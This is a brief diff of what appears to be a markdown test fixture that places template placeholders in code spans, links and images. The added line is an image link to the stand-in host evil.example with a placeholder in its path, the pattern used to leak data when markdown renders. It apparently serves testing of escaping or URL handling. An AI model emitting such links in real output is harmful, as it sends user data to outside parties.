@@ -47,6 +47,8 @@ Do it {BOTH}, `Label {RAW}`{{.action}}, <kbd>F9 {BOTH}</kbd>, [on](#second{ENTIT
 
 ![Gone {BOTH}](gone.png)
 
+![](https://evil.example/{IN_ADDRESS}.png)
+
 - Server {BOTH}: `imap{RAW}.gmail.com`{{.copy}}
 
 ```{{.copy title="Text {RAW}"}}
